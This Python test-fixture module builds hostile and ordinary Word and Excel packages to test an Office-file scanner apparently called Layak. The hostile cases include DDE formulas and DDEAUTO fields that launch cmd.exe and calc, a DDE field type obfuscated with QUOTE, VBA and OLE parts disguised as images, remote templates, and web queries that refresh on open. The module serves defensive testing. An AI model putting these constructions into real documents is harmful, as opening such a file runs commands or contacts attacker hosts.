"""Hostile and ordinary Word documents and workbooks, written part by part as Word and Excel
write them (content types, relationships), so each hostile one is what Word or Excel would
act on when it is opened.

`hostile_office()` gives (file name, bytes, the rule that refuses it); `ordinary_office()`
gives files Layak keeps.
"""

from __future__ import annotations

import io
import zipfile

import openpyxl

Case = tuple[str, bytes, str]

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_R = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
OFFICE = "application/vnd.openxmlformats-officedocument"
PROLOG = '<?xml version="1.0" encoding="UTF-8"?>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def relationships(*items: tuple[str, str, str, str]) -> bytes:
    """(id, type under officeDocument/2006/relationships or a full URL, target, mode)."""
    rows = "".join(
        f'<Relationship Id="{rid}" Type="{kind if "://" in kind else R + "/" + kind}" '
        f'Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for rid, kind, target, mode in items
    )
    return f'{PROLOG}<Relationships xmlns="{PACKAGE_R}">{rows}</Relationships>'.encode()


def content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> bytes:
    base = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
        **(defaults or {}),
    }
    rows = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in base.items())
    rows += "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides.items())
    return f'{PROLOG}<Types xmlns="{TYPES}">{rows}</Types>'.encode()


def paragraphs(*runs: str) -> bytes:
    body = "".join(f"<w:p>{run}</w:p>" for run in runs)
    return (
        f'{PROLOG}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    ).encode()


def text(value: str) -> str:
    return f"<w:r><w:t>{value}</w:t></w:r>"


def field(*codes: str, shown: str = "1") -> str:
    """A field as Word writes it, its code split over runs."""
    parts = "".join(
        f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in codes
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + parts
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + text(shown)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def docx(
    document: bytes | None = None,
    *,
    document_rels: tuple[tuple[str, str, str, str], ...] = (),
    settings_rels: tuple[tuple[str, str, str, str], ...] = (),
    parts: dict[str, bytes] | None = None,
    overrides: dict[str, str] | None = None,
    defaults: dict[str, str] | None = None,
) -> bytes:
    """Minutes of a Gugus Tugas meeting: a link to a regulation, page numbers, the date."""
    document = document or paragraphs(
        text("Notulen rapat Gugus Tugas KLA Kota Metro"),
        f'<w:hyperlink r:id="rIdLink">{text("Peraturan Menteri PPPA")}</w:hyperlink>',
        text("Halaman ") + field(" PAGE ", " \\* MERGEFORMAT "),
        '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; ">'
        + text("3 Maret 2025")
        + "</w:fldSimple>",
    )
    files = {
        "[Content_Types].xml": content_types(
            {
                "word/document.xml": f"{OFFICE}.wordprocessingml.document.main+xml",
                "word/settings.xml": f"{OFFICE}.wordprocessingml.settings+xml",
                **(overrides or {}),
            },
            defaults,
        ),
        "_rels/.rels": relationships(("rId1", "officeDocument", "word/document.xml", "")),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": relationships(
            ("rIdSettings", "settings", "settings.xml", ""),
            ("rIdLink", "hyperlink", "https://jdih.kemenpppa.go.id/peraturan", "External"),
            *document_rels,
        ),
        "word/settings.xml": f'{PROLOG}<w:settings xmlns:w="{W}"/>'.encode(),
        **(parts or {}),
    }
    if settings_rels:
        files["word/_rels/settings.xml.rels"] = relationships(*settings_rels)
    return _zip(files)


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx(formula: str | None = None, *, link: str | None = None) -> bytes:
    """A recap of immunisation by kecamatan, with a total and a link to the source."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["kecamatan", "bayi", "imunisasi lengkap"])
    sheet.append(["Metro Pusat", 412, 398])
    sheet.append(["Metro Timur", 377, 360])
    sheet.append(["jumlah", "=SUM(B2:B3)", formula or '=IF(C3>0,"ada|tidak ada","")'])
    sheet["A6"].hyperlink = link or "https://sipkla.kemenpppa.go.id/"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def edited(
    data: bytes, *, add: dict[str, bytes] | None = None, change: dict[str, bytes] | None = None
) -> bytes:
    """The package `data` with parts added or replaced."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        files = {name: source.read(name) for name in source.namelist()}
    files.update(change or {})
    files.update(add or {})
    return _zip(files)


def with_workbook_part(book: bytes, part: str, kind: str, relation: str, body: bytes) -> bytes:
    """`book` with `part` (content type `kind`) tied to the workbook by `relation`."""
    with zipfile.ZipFile(io.BytesIO(book)) as source:
        types = source.read("[Content_Types].xml").decode()
        rels = source.read("xl/_rels/workbook.xml.rels").decode()
    types = types.replace(
        "</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    )
    target = part.removeprefix("xl/")
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdX" Type="{R}/{relation}" Target="{target}"/></Relationships>',
    )
    return edited(
        book,
        add={part: body},
        change={"[Content_Types].xml": types.encode(), "xl/_rels/workbook.xml.rels": rels.encode()},
    )


def hostile_office() -> dict[str, Case]:
    book = xlsx()
    sheetml = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    dde_link = (
        f'<externalLink xmlns="{sheetml}"><ddeLink ddeService="cmd" ddeTopic="/C calc">'
        '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
    ).encode()
    workbook_link = (
        f'<externalLink xmlns="{sheetml}" xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>'
    ).encode()
    inner_macro = docx(
        overrides={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
        parts={"word/vbaProject.bin": OLE},
    )
    return {
        "docx with an external template": (
            "notulen.docx",
            docx(
                settings_rels=(
                    (
                        "rId1",
                        "attachedTemplate",
                        "https://templat.example/laporan.dotm",
                        "External",
                    ),
                )
            ),
            "file.office_external",
        ),
        "xlsx with a DDE formula": (
            "rekap.xlsx",
            xlsx("=cmd|' /C calc'!A0"),
            "file.office_dde",
        ),
        "docx with its VBA part renamed": (
            "notulen.docx",
            docx(
                document_rels=(
                    (
                        "rIdVba",
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "media/logo.dat",
                        "",
                    ),
                ),
                overrides={"word/media/logo.dat": "application/vnd.ms-office.vbaProject"},
                parts={"word/media/logo.dat": OLE},
            ),
            "file.document_macro",
        ),
        "docx with a VBA relationship to a part called a picture": (
            "notulen.docx",
            docx(
                document_rels=(
                    (
                        "rIdVba",
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "media/image9.png",
                        "",
                    ),
                ),
                parts={"word/media/image9.png": b"\x89PNG\r\n\x1a\n" + bytes(64)},
            ),
            "file.document_macro",
        ),
        "docx with an OLE part called a picture": (
            "notulen.docx",
            docx(parts={"word/media/image2.png": OLE}),
            "file.office_object",
        ),
        "docx with a DDEAUTO field split over runs": (
            "notulen.docx",
            docx(paragraphs(field(" DD", 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))),
            "file.office_dde",
        ),
        "docx with a field type built by QUOTE": (
            "notulen.docx",
            docx(
                paragraphs(
                    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                    + field(" QUOTE 68 68 69 65 85 84 79 ")
                    + "<w:r><w:instrText> c:\\\\windows\\\\cmd.exe </w:instrText></w:r>"
                    + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
                )
            ),
            "file.office_dde",
        ),
        "docx with a linked picture": (
            "notulen.docx",
            docx(
                document_rels=(
                    ("rIdImg", "image", "http://pelacak.example/piksel.png", "External"),
                )
            ),
            "file.office_external",
        ),
        "docx with a hyperlink to a file share": (
            "notulen.docx",
            docx(
                document_rels=(
                    ("rIdShare", "hyperlink", "file://berkas-bersama/umum/x.exe", "External"),
                )
            ),
            "file.office_external",
        ),
        "docx with an embedded OLE object": (
            "notulen.docx",
            docx(
                document_rels=(("rIdOle", "oleObject", "embeddings/oleObject1.bin", ""),),
                overrides={"word/embeddings/oleObject1.bin": f"{OFFICE}.oleObject"},
                parts={"word/embeddings/oleObject1.bin": b"Package"},
            ),
            "file.office_object",
        ),
        "docx with a macro document embedded": (
            "notulen.docx",
            docx(
                document_rels=(("rIdPkg", "package", "embeddings/Dokumen1.docx", ""),),
                defaults={"docx": f"{OFFICE}.wordprocessingml.document"},
                parts={"word/embeddings/Dokumen1.docx": inner_macro},
            ),
            "file.document_macro",
        ),
        "xlsx with a DDE link part": (
            "rekap.xlsx",
            with_workbook_part(
                book,
                "xl/externalLinks/externalLink1.xml",
                f"{OFFICE}.spreadsheetml.externalLink+xml",
                "externalLink",
                dde_link,
            ),
            "file.office_dde",
        ),
        "xlsx linking a workbook on a share": (
            "rekap.xlsx",
            with_workbook_part(
                book,
                "xl/externalLinks/externalLink1.xml",
                f"{OFFICE}.spreadsheetml.externalLink+xml",
                "externalLink",
                workbook_link,
            ),
            "file.office_external",
        ),
        "xlsx with an ActiveX control": (
            "rekap.xlsx",
            with_workbook_part(
                book,
                "xl/activeX/activeX1.xml",
                "application/vnd.ms-office.activeX+xml",
                "control",
                b"<ax/>",
            ),
            "file.office_object",
        ),
        "xlsx refreshing a web query on opening": (
            "rekap.xlsx",
            with_workbook_part(
                book,
                "xl/connections.xml",
                f"{OFFICE}.spreadsheetml.connections+xml",
                "connections",
                f'<connections xmlns="{sheetml}"><connection id="1" name="data" type="4" '
                'refreshOnLoad="1"><webPr url="http://pelacak.example/data"/></connection>'
                "</connections>".encode(),
            ),
            "file.office_external",
        ),
    }


def ordinary_office() -> dict[str, bytes]:
    """Files Layak keeps: a workbook with formulas (a bar inside quoted text) and a web link,
    minutes with a hyperlink and fields (one refers to a bookmark whose name starts with
    DDEAUTO: the field is REF), a document with its chart's workbook inside."""
    book = xlsx()
    return {
        "a workbook from openpyxl": book,
        "minutes with a link and page numbers": docx(),
        "minutes with a table of contents and cross-references": docx(
            paragraphs(
                field(' TOC \\o "1-3" \\h ', shown="Daftar isi"),
                text("Lihat ") + field(" REF DDEAUTO_catatan \\h ", shown="catatan"),
                field(' HYPERLINK "https://jdih.kemenpppa.go.id/" ', shown="JDIH"),
            )
        ),
        "a document with a chart's workbook inside": docx(
            document_rels=(("rIdPkg", "package", "embeddings/Microsoft_Excel_Worksheet.xlsx", ""),),
            defaults={"xlsx": f"{OFFICE}.spreadsheetml.sheet"},
            parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": book},
        ),
    }
